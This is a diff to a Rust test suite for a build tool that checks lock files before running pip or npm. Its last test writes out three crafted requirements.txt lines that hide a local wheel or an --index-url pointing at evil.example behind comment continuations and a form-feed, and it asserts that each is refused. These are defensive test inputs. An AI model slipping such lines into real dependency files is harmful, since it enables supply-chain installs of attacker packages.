@@ -142,6 +142,11 @@ impl Machine {
     }
 }
 
+/// Returns the text of a requirements file with one more hash.
+fn with_another_hash(text: &str, hash: &str) -> String {
+    text.replacen("--hash=", &format!("--hash=sha256:{hash} --hash="), 1)
+}
+
 #[test]
 fn a_build_runs_no_program_in_the_project() {
     for (language, code) in [("python", 0), ("javascript", 0), ("c", 1)] {
@@ -222,7 +227,10 @@ fn a_compiler_is_installed_once_for_each_state_of_the_lock_files() {
             match step {
                 "changed" => {
                     let text = fs::read_to_string(&lock).unwrap();
-                    let changed = text.replace("    ", "     ");
+                    let changed = match language {
+                        "python" => with_another_hash(&text, "00"),
+                        _ => text.replace("    ", "     "),
+                    };
                     assert_ne!(changed, text);
                     fs::write(&lock, changed).unwrap();
                     // Projects in Python share compilers by lock, and another may use it.
@@ -330,7 +338,7 @@ fn removes_a_shared_compiler_that_no_build_used_for_a_month() {
     let before = machine.environments();
     let lock = machine.project.join("requirements.txt");
     let text = fs::read_to_string(&lock).unwrap();
-    fs::write(&lock, text.replace("    ", "     ")).unwrap();
+    fs::write(&lock, with_another_hash(&text, "00")).unwrap();
     assert_eq!(machine.build().code, 0);
     assert_eq!(machine.environments().len(), 2);
     let month = std::time::Duration::from_secs(31 * 24 * 3600);
@@ -341,7 +349,7 @@ fn removes_a_shared_compiler_that_no_build_used_for_a_month() {
     }
     // One is used again, which keeps it.
     assert_eq!(machine.build().code, 0);
-    fs::write(&lock, text.replace("    ", "      ")).unwrap();
+    fs::write(&lock, with_another_hash(&text, "01")).unwrap();
     assert_eq!(machine.build().code, 0);
     let after = machine.environments();
     assert_eq!(after.len(), 2, "{after:?}");
@@ -477,6 +485,27 @@ fn a_lock_of_npm_that_could_install_from_the_project_is_refused_before_npm_runs(
         let run = machine.build_with_text(file, &changed);
         assert_eq!(run.code, 1, "{message}: {run:?}");
         assert!(run.stderr.contains(message), "{message}: {}", run.stderr);
+    }
+    assert_eq!(machine.installed(), 0, "{:?}", machine.logged());
+}
+
+#[test]
+fn lines_that_pip_reads_otherwise_are_refused_before_it_runs() {
+    let machine = Machine::with_project("python");
+    let lock = "requirements.txt";
+    let text = fs::read_to_string(machine.project.join(lock)).unwrap();
+    for more in [
+        "one==1.0 --hash=sha256:00 \\\n    # a comment \\\n/project/evil-1.0-py3-none-any.whl\n",
+        "one==1.0 --hash=sha256:00 # a comment\u{c}--index-url=https://evil.example/simple\n",
+        "evil-1.0-py3-none-any.whl;python_version=='3.12' --hash=sha256:00\n",
+    ] {
+        let run = machine.build_with_text(lock, &format!("{text}{more}"));
+        assert_eq!(run.code, 1, "{more}: {run:?}");
+        assert!(
+            run.stderr.contains("`requirements.txt`, line "),
+            "{}",
+            run.stderr
+        );
     }
     assert_eq!(machine.installed(), 0, "{:?}", machine.logged());
 }
